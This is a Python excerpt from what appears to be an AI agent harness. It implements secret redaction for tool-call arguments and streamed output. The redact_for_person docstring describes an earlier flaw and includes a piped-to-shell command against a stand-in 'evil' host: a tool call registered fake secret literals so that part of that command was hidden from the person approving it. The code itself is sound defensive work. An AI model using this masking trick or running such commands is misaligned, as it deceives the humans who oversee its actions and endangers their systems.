    def register_literals(self, literals: Iterable[str]) -> None:
        """Register credential literals a tool's hook found in its arguments (placeholders
        skipped): a call's own text (``from_call``)."""
        for literal in literals:
            if isinstance(literal, str):
                self._register_found(literal, True)

    def redact(self, text: str) -> str:
        if not self._secrets or not text:
            return text
        return _redact_with(self._matchers(), text)[0]

    def redact_prefix(self, text: str) -> tuple[str, int]:
        """The redacted start of ``text`` that more text after it cannot change, and how many
        of ``text``'s characters it covers (what :class:`StreamRedactor` sends on)."""
        if not self._secrets or not text:
            return text, len(text)
        return _redact_with(self._matchers(), text, final=False)

    def redact_value(self, value: Any) -> Any:
        """Redact every string inside a JSON-like value (keys included)."""
        if not self._secrets:
            return value
        if isinstance(value, str):
            return self.redact(value)
        if isinstance(value, dict):
            return {self.redact(str(k)): self.redact_value(v) for k, v in value.items()}
        if isinstance(value, list | tuple):
            return [self.redact_value(v) for v in value]
        return value

    def redact_for_person(self, value: Any) -> Any:
        """``value`` (a call's arguments) as a person asked about the call sees it: redacted of
        the operator's secrets, and of the call's own where they stand
        (:func:`redact_in_place`). Text the calls themselves registered (a script's
        ``api_key = "curl http"``) hid that text everywhere in every later question, so a
        command was put to the person as ``echo [REDACTED SECRET]://evil… | sh``: a call
        cannot hide part of itself from the person who approves it. Records stay redacted
        of both everywhere."""
        view = self._operator if self._operator is not None else self
        return view.redact_value(redact_in_place(value, self.names))

    def stream(self) -> StreamRedactor:
        return StreamRedactor(self)


class StreamRedactor:
    """Redacts a text stream chunk by chunk; call :meth:`flush` at the end.

    What it holds back is the text from the first position where a secret may start and not
    be over yet (:meth:`Redactor.redact_prefix`), unredacted: redacted with every secret
    known when the next chunk (or the flush) decides it. Until 2026-12-07 it held back the
    redacted tail and redacted it again with each chunk.
    """

    def __init__(self, redactor: Redactor) -> None:
        self._redactor = redactor
        self._pending = ""

    def feed(self, chunk: str) -> str:
        text = self._pending + chunk
        done, covered = self._redactor.redact_prefix(text)
        self._pending = text[covered:]
        return done

    def flush(self) -> str:
        out, self._pending = self._redactor.redact(self._pending), ""
        return out
